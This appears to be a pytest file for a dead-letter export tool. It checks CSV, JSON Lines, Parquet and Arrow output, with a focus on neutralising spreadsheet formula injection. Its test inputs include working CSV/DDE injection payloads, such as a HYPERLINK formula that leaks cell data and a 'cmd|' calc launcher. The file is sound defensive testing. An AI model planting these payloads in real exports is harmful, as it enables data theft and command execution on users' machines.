"""Exported rows in each format: exact, except that CSV cells are never formulas."""

import csv
import io
import json
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.ipc
import pyarrow.parquet as pq
import pytest

from sahool_dlq.deadletter.headers import MutableHeaders
from sahool_dlq.reproduce.export import RAW_SCHEMA, SCHEMA, Batches, raw_row
from sahool_dlq.reproduce.formats import FORMATS, Format, no_formula, writer
from sahool_dlq.reproduce.raw import Missing, RawEvent


def written(form: Format, schema: pa.Schema, rows: list[tuple[Any, ...]]) -> bytes:
    file, batches = io.BytesIO(), Batches(schema)
    target = writer(form, schema, file)
    for row in rows:
        assert batches.add(row) is None
    if batch := batches.rest():
        target.write(batch)
    target.close()
    return file.getvalue()


def row(schema: pa.Schema, **values: Any) -> tuple[Any, ...]:
    return tuple(values.get(name) for name in schema.names)


def about() -> tuple[Any, ...]:
    return (None,) * (len(RAW_SCHEMA.names) - 4)


def raw(body: bytes, **headers: str | list[str]) -> tuple[Any, ...]:
    held: MutableHeaders = dict(headers)
    return raw_row(about(), RawEvent("f", "s", body, held, "stream"))


@pytest.mark.parametrize(
    "text",
    [
        "=HYPERLINK(\"http://x/?\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1",
        "\n=1", "  =1", "＝1", "＋1", "－1", "＠x",
    ],
)  # fmt: skip
def test_no_cell_begins_as_a_formula_does(text: str) -> None:
    line = written("csv", SCHEMA, [row(SCHEMA, error_message=text, tenant_id=text)]).decode()
    [header, cells] = csv.reader(io.StringIO(line))
    assert cells[header.index("error_message")].startswith("'")
    assert cells[header.index("tenant_id")] == f"'{text}".replace("\r", "\N{REPLACEMENT CHARACTER}")


@pytest.mark.parametrize("text", ["", "a=1", "plain", "(1)", "'x", '"'])
def test_other_cells_stay_as_they_are(text: str) -> None:
    assert no_formula(text) == text


def test_cells_are_quoted_whatever_separates_them_elsewhere() -> None:
    """In some countries spreadsheets read a semicolon as the end of a cell."""
    line = written("csv", SCHEMA, [row(SCHEMA, error_message='a;=1+1;"b"')]).decode()
    assert '"a;\'=1+1;""b"""' in line


def test_json_lines_keep_numbers_and_nesting_of_a_masked_body() -> None:
    body = '{"n": 12345678901234567890, "x": 1.10, "s": "\x85 \\u0000"}'
    line = written("jsonl", SCHEMA, [row(SCHEMA, body=body, headers='{"a": ["x", "y"]}')])
    assert b"12345678901234567890" in line
    assert b"1.10" in line
    assert "\x85" not in line.decode()  # it would steer a terminal
    value = json.loads(line)
    assert value["body"]["s"] == "\x85 \0"
    assert value["headers"] == {"a": ["x", "y"]}


@pytest.mark.parametrize("form", FORMATS)
@pytest.mark.parametrize(
    ("body", "encoding"), [(b'{"a": 1}\n', "text"), (b"\xff\0", "base64"), (b"", "text")]
)
def test_a_raw_body_comes_back_from_each_format(form: Format, body: bytes, encoding: str) -> None:
    data = written(form, RAW_SCHEMA, [raw(body, a="b")])
    if form in ("parquet", "arrow"):
        table = (
            pq.read_table(io.BytesIO(data))
            if form == "parquet"
            else pyarrow.ipc.open_stream(data).read_all()
        )
        assert table.schema.equals(RAW_SCHEMA)
        [found] = table.to_pylist()
        assert found["body"] == body
    elif form == "jsonl":
        found = json.loads(data)
        assert found["body_encoding"] == encoding
        assert found["headers"] == {"a": "b"}
        return
    else:
        [found] = csv.DictReader(io.StringIO(data.decode()))
        assert found["body_encoding"] == encoding
    assert json.loads(found["headers"]) == {"a": "b"}


@pytest.mark.parametrize("form", FORMATS)
def test_an_event_that_is_gone_says_why(form: Format) -> None:
    gone = raw_row(about(), Missing("f", "the stream no longer has its dead letter"))
    data = written(form, RAW_SCHEMA, [gone])
    if form == "jsonl":
        found = json.loads(data)
        assert found["body"] is found["body_encoding"] is found["headers"] is None
        assert found["missing"] == "the stream no longer has its dead letter"
    elif form == "csv":
        assert b"no longer has" in data


@pytest.mark.parametrize("form", FORMATS)
def test_no_rows_are_a_file_all_the_same(form: Format) -> None:
    data = written(form, SCHEMA, [])
    if form == "parquet":
        assert pq.read_table(io.BytesIO(data)).num_rows == 0
    elif form == "arrow":
        assert pyarrow.ipc.open_stream(data).read_all().num_rows == 0
    else:
        assert len(data.splitlines()) == (form == "csv")


def test_neither_many_nor_large_rows_are_kept_in_memory() -> None:
    batches, large = Batches(RAW_SCHEMA), raw(b"x" * (1 << 20))
    sizes = [batch.num_rows for _ in range(40) if (batch := batches.add(large))]
    assert sizes == [8] * 5
    batches, small = Batches(RAW_SCHEMA), raw(b"x")
    sizes = [batch.num_rows for _ in range(12_000) if (batch := batches.add(small))]
    assert sizes == [5_000] * 2
    rest = batches.rest()
    assert rest is not None
    assert rest.num_rows == 2_000
    assert batches.rest() is None


def test_a_message_that_is_split_holds_no_formula_either(tmp_path: Path) -> None:
    schema = pa.schema([("error_message", pa.string()), ("body", pa.string())])
    row = {"error_message": "a;=1+1\n\t@x| -2;b = 3", "body": '{"a":";=1"}'}
    with (tmp_path / "x.csv").open("wb") as file:
        out = writer("csv", schema, file)
        out.write(pa.RecordBatch.from_pylist([row], schema=schema))
        out.close()
    [_, cells] = csv.reader(io.StringIO((tmp_path / "x.csv").read_text(), newline=""))
    assert cells == ["a;'=1+1\n\t'@x| '-2;b = 3", '{"a":";=1"}']
